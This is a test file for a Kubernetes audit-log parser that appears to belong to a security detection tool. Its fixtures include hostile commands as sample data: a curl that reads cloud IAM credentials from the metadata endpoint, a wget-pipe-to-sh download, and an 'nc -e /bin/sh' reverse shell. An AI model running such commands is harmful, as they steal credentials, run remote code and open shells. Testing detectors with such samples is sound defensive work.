import { describe, expect, it } from "vitest";
import type { ExecEvent } from "../../src/model.js";
import { k8sAudit } from "../../src/sources/k8s-audit.js";
import { context, itNormalizesFixtures, K8S_GROUP, loadFixture, loadMessage } from "./fixtures.js";

const ctx = context();
const source = {
  format: "k8s-audit",
  logGroup: "/aws/eks/prod-eks/cluster",
  logStream: "kube-apiserver-audit-6f1c2d3e4b5a69788",
  eventId: ctx.eventId,
  owner: "123456789012",
} as const;

const imdsExec: ExecEvent = {
  process: {
    name: "sh",
    args: [
      "-c",
      "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/storefront-node-role",
    ],
  },
  ancestors: [],
  container: { name: "storefront" },
  workload: { platform: "eks", cluster: "prod-eks", namespace: "shop", pod: "storefront-6d9f8b7c5-2xkzw" },
  inContainer: true,
  viaExecSession: true,
  time: "2026-03-16T03:11:58.114Z",
  source,
  sessionKey: "9ec4a1f2-b8d3-4c6e-a701-5f3e2d1c0b9a",
  actor: {
    user: "arn:aws:sts::123456789012:assumed-role/eks-developer/mallory",
    sourceIPs: ["203.0.113.77"],
    userAgent: "kubectl/v1.31.4 (darwin/arm64) kubernetes/a78aa47",
  },
};

const expected: Record<string, ExecEvent[]> = {
  // One exec logged at two stages: the same event, same sessionKey and time, for the signal stage to merge.
  "k8s-audit-exec-imds-started": [imdsExec],
  "k8s-audit-exec-imds-complete": [imdsExec],
  "k8s-audit-exec-benign-ls": [
    {
      process: { name: "ls", args: ["-la", "/srv/config"] },
      ancestors: [],
      container: { name: "ledger-api" },
      workload: {
        platform: "eks",
        cluster: "prod-eks",
        namespace: "payments",
        pod: "ledger-api-5f8d9c7b4-m9q2t",
      },
      inContainer: true,
      viaExecSession: true,
      time: "2026-03-16T10:02:41.551Z",
      source,
      sessionKey: "3f0a9c1e-7d2b-4e85-9a6c-1b2d3e4f5a60",
      actor: {
        user: "arn:aws:sts::123456789012:assumed-role/platform-oncall/alice",
        sourceIPs: ["10.20.4.18"],
        userAgent: "kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47",
      },
    },
  ],
  "k8s-audit-nodes-proxy-exec": [
    {
      process: { name: "sh", args: ["-c", "wget -qO- http://203.0.113.45/s | sh"] },
      ancestors: [],
      container: { name: "storefront" },
      workload: {
        platform: "eks",
        cluster: "prod-eks",
        namespace: "shop",
        pod: "storefront-6d9f8b7c5-2xkzw",
        node: "ip-10-0-47-181.ec2.internal",
      },
      inContainer: true,
      viaExecSession: true,
      time: "2026-03-18T07:41:12.228Z",
      source,
      sessionKey: "5b2e8c41-0f7a-4d93-b6e2-8a1c9d3f7e05",
      actor: {
        user: "system:serviceaccount:monitoring:node-stats-reader",
        sourceIPs: ["10.0.61.213"],
        userAgent: "Go-http-client/1.1",
      },
    },
  ],
  "k8s-audit-attach": [],
  "k8s-audit-list-pods": [],
};

function withUri(requestURI: string): string {
  const fixture = loadFixture("k8s-audit-exec-imds-started");
  fixture.requestURI = requestURI;
  return JSON.stringify(fixture);
}

describe("kubernetes audit parser", () => {
  itNormalizesFixtures(k8sAudit, ctx, expected);

  it("is plain kubernetes outside the EKS control-plane log group", () => {
    const result = k8sAudit.parse(
      loadMessage("k8s-audit-exec-imds-started"),
      context({ logGroup: K8S_GROUP }),
    );
    expect(result?.[0]?.workload).toEqual({
      platform: "kubernetes",
      namespace: "shop",
      pod: "storefront-6d9f8b7c5-2xkzw",
    });
  });

  it.each([
    [
      "an absolute command path",
      "/api/v1/namespaces/a/pods/p/exec?command=%2Fusr%2Fbin%2Fwget&command=-q",
      { name: "wget", path: "/usr/bin/wget", args: ["-q"] },
    ],
    [
      "params around the commands",
      "/api/v1/namespaces/a/pods/p/exec?stdout=true&command=nc&tty=true&command=-e&command=%2Fbin%2Fsh",
      { name: "nc", args: ["-e", "/bin/sh"] },
    ],
    [
      "a bad percent escape, kept literally",
      "/api/v1/namespaces/a/pods/p/exec?command=curl&command=%ZZ%2",
      { name: "curl", args: ["%ZZ%2"] },
    ],
    [
      "an invalid UTF-8 escape, replaced",
      "/api/v1/namespaces/a/pods/p/exec?command=curl&command=%E0%A4",
      { name: "curl", args: ["\uFFFD"] },
    ],
  ])("decodes %s", (_label, uri, process) => {
    expect(k8sAudit.parse(withUri(uri), ctx)?.[0]?.process).toEqual(process);
  });

  it.each([
    ["a pod uid in the path", "/api/v1/nodes/n1/proxy/exec/ns/pod-1/0c9f6e2a-4b1d/app?command=id", "app"],
    ["a trailing slash", "/api/v1/nodes/n1:10250/proxy/exec/ns/pod-1/app/?command=id", "app"],
  ])("reads a kubelet exec through nodes/proxy with %s", (_label, uri, container) => {
    // Prepare
    const fixture = loadFixture("k8s-audit-nodes-proxy-exec");
    fixture.requestURI = uri;
    // Act
    const [event] = k8sAudit.parse(JSON.stringify(fixture), ctx) ?? [];
    // Assess
    expect(event?.process).toEqual({ name: "id", args: [] });
    expect(event?.container).toEqual({ name: container });
    expect(event?.workload).toMatchObject({ namespace: "ns", pod: "pod-1" });
  });

  it.each([
    ["node stats", "/api/v1/nodes/n1/proxy/stats/summary"],
    ["container logs", "/api/v1/nodes/n1/proxy/containerLogs/ns/pod-1/app"],
    ["a kubelet run (its command is in the body)", "/api/v1/nodes/n1/proxy/run/ns/pod-1/app"],
  ])("yields nothing for other nodes/proxy requests: %s", (_label, uri) => {
    const fixture = loadFixture("k8s-audit-nodes-proxy-exec");
    fixture.requestURI = uri;
    expect(k8sAudit.parse(JSON.stringify(fixture), ctx)).toEqual([]);
  });

  it("yields nothing for an exec without a command", () => {
    expect(k8sAudit.parse(withUri("/api/v1/namespaces/a/pods/p/exec?container=x&stdin=true"), ctx)).toEqual(
      [],
    );
    expect(k8sAudit.parse(withUri("/api/v1/namespaces/a/pods/p/exec"), ctx)).toEqual([]);
  });

  it("matches on the subresource, whatever the verb or response code", () => {
    const fixture = loadFixture("k8s-audit-exec-imds-started");
    fixture.verb = "create";
    fixture.responseStatus = { metadata: {}, status: "Failure", code: 403 };
    expect(k8sAudit.parse(JSON.stringify(fixture), ctx)).toHaveLength(1);
  });

  it.each([
    ["plain text", "I0316 03:11:58.114321 audit.k8s.io webhook ready"],
    ["broken JSON", '{"kind":"Event","apiVersion":"audit.k8s.io/v1",'],
    ["another kind", '{"kind":"Policy","apiVersion":"audit.k8s.io/v1","rules":[]}'],
    ["another apiVersion", '{"kind":"Event","apiVersion":"events.k8s.io/v1","note":"audit.k8s.io"}'],
  ])("returns null for %s", (_label, message) => {
    expect(k8sAudit.parse(message, ctx)).toBeNull();
  });
});

describe("k8s audit events without kind/apiVersion", () => {
  const bare = (): Record<string, unknown> => {
    const event = loadFixture("k8s-audit-exec-imds-started");
    delete event.kind;
    delete event.apiVersion;
    return event;
  };

  it("recognizes an event by its shape (auditID, stage, requestURI) and reads it like a full one", () => {
    const message = JSON.stringify(bare());
    expect(k8sAudit.sniff(message)).toBe(true);
    expect(k8sAudit.parse(message, ctx)).toEqual(
      k8sAudit.parse(loadMessage("k8s-audit-exec-imds-started"), ctx),
    );
  });

  it("reads every item of a whole EventList", () => {
    const list = {
      kind: "EventList",
      apiVersion: "audit.k8s.io/v1",
      metadata: {},
      items: [bare(), bare(), 7],
    };
    expect(k8sAudit.parse(JSON.stringify(list), ctx)).toHaveLength(2);
  });

  it.each([
    ["no stage", (e: Record<string, unknown>) => delete e.stage],
    ["another kind", (e: Record<string, unknown>) => Object.assign(e, { kind: "Pod" })],
    ["auditID not a string", (e: Record<string, unknown>) => Object.assign(e, { auditID: 7 })],
  ])("is not an audit event with %s", (_label, change) => {
    const event = bare();
    change(event);
    expect(k8sAudit.parse(JSON.stringify(event), ctx)).toBeNull();
  });
});
